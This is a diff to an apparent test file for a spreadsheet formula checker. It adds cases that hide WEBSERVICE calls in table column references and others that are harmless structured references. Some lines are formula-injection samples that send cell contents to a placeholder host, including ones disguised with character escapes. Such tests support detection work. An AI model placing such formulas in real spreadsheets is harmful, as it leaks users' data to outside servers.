@@ -39,6 +39,9 @@ test.each([
   // Characters written as escapes.
   'WEBSERVICE_x0028_"https://example.org/?"&A4)',
   '"a_x0022_&WEBSERVICE(A4)&_x0022_"',
+  // Between the columns of a table.
+  'T[[a],WEBSERVICE("https://example.org/"&A1)]',
+  'T[[a]&"x",[b]]',
   // What cannot be read with certainty.
   `T[a'[b]]+WEBSERVICE("x")+'S'!A1`,
   '"open',
@@ -53,6 +56,8 @@ test.each([
   'SUM(Table1[[#This Row],[Cost (USD)]])',
   `SUM(Costs[Paid '[USD']])`,
   'SUM(Table1[@Total])',
+  'SUM(Table1[@[Cost (USD)]])',
+  'SUM(Table1[[#Headers],[#Data],[a]:[b]])',
   '"[1]"&A1',
   '"WEBSERVICE("&A1&"|"',
   '"say ""IMAGE("""',
